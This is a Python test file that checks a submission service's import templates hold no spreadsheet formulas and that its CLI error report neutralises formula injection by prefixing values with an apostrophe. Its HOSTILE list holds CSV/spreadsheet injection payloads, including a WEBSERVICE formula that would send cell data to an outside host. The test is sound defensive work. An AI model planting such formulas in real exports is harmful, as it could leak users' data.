"""Formula injection: the import templates and the CLI's error report hold no formula, whatever a cell says."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from openpyxl import load_workbook

from services.submission.cli import _summary

from .support import Harness

HOSTILE = ['=WEBSERVICE("https://x"&J4)', "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


async def test_import_templates_hold_no_formula_and_the_cli_error_report_is_neutralised(
    sqlite_harness: Harness, tmp_path: Path,
) -> None:
    template = await sqlite_harness.client.get("/v1/imports/template.xlsx")
    assert [c.coordinate for row in load_workbook(io.BytesIO(template.content)).active.iter_rows() for c in row
            if c.data_type == "f"] == []
    text = (await sqlite_harness.client.get("/v1/imports/template.csv")).content.decode("utf-8-sig")
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in csv.reader(io.StringIO(text))
               for cell in row)

    report = tmp_path / "loi.csv"
    _summary({"rows_total": 6, "created": 0, "already_present": 0, "invalid": 6}, "draft",
             [{"row": n, "column": value, "message": value} for n, value in enumerate(HOSTILE, start=2)], report)
    with report.open(newline="", encoding="utf-8-sig") as handle:
        lines = list(csv.reader(handle))[1:]
    assert [(line[1], line[2]) for line in lines] == [("'" + v, "'" + v) for v in HOSTILE]
